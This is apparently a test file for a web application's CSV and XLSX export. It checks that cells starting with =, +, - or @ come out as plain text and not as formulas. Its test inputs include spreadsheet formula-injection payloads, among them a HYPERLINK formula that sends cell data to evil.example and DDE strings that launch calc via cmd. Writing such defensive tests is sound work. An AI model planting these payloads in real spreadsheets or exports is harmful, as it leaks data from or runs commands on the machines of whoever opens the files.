import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { excel } from '../../src/imports/exceljs';
import { call, login, type Session, unique } from '../support/http';
import { freshUscc } from '../support/import-files';
import { type TestApp, testApp } from '../support/test-platform';

const ExcelJS = excel();

let t: TestApp;
let admin: Session;
beforeAll(async () => {
  t = await testApp();
  admin = await login(t.app, 'admin');
});
afterAll(() => t.app.close());

describe('list exports and formulas', () => {
  it('CSV cells starting with = + - @ are written with a leading apostrophe, so a spreadsheet shows text instead of running it', async () => {
    const tag = unique().tag;
    const names = [
      `=HYPERLINK("http://evil.example/?d="&A1,"日照${tag}点此查看")`,
      `+cmd|' /C calc'!A0 日照${tag}`,
      `@SUM(1+1)*cmd|' /C calc'!A0 日照${tag}`,
      `-2+3+cmd|' /C calc'!A0 日照${tag}`,
    ];
    for (const name of names) {
      const res = await call(t.app, admin, 'POST', '/api/subjects', {
        uscc: freshUscc(),
        name,
        kind: '企业',
        legalRepresentative: '=1+2',
        divisionCode: '371102',
        industryCodes: ['5211'],
        creditClass: null,
      });
      expect(res.statusCode, res.body).toBe(200);
    }
    const csv = await call(t.app, admin, 'GET', `/api/subjects/export.csv?q=${encodeURIComponent(`日照${tag}`)}`);
    expect(csv.statusCode, csv.body).toBe(200);
    const lines = csv.body.split('\r\n').slice(1, -1);
    expect(lines).toHaveLength(4);
    for (const line of lines) {
      // Every field of the line that holds one of the names: not one starts like a formula (outside quotes or inside).
      const fields = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((f) => f.replace(/,$/, '').replace(/^"|"$/g, ''));
      expect(
        fields.filter((f) => /^[=+\-@]/.test(f)),
        line,
      ).toEqual([]);
      expect(
        fields.some((f) => names.includes(f.slice(1).replaceAll('""', '"')) && f.startsWith("'")),
        line,
      ).toBe(true);
      expect(fields).toContain("'=1+2");
    }
  });

  it('XLSX cells hold the same text as strings, never as formulas', async () => {
    const tag = unique().tag;
    const name = `=HYPERLINK("http://evil.example","日照${tag}点此")`;
    expect(
      (
        await call(t.app, admin, 'POST', '/api/subjects', {
          uscc: freshUscc(),
          name,
          kind: '企业',
          divisionCode: '371102',
          industryCodes: ['5211'],
          creditClass: null,
        })
      ).statusCode,
    ).toBe(200);
    const xlsx = await call(t.app, admin, 'GET', `/api/subjects/export.xlsx?q=${encodeURIComponent(`日照${tag}`)}`);
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const cells: { value: unknown; type: number; formula: string | undefined }[] = [];
    workbook.worksheets[0]!.getRow(2).eachCell((c) => cells.push({ value: c.value, type: c.type, formula: c.formula }));
    const cell = cells.find((c) => c.value === name);
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.formula).toBeUndefined();
  });
});
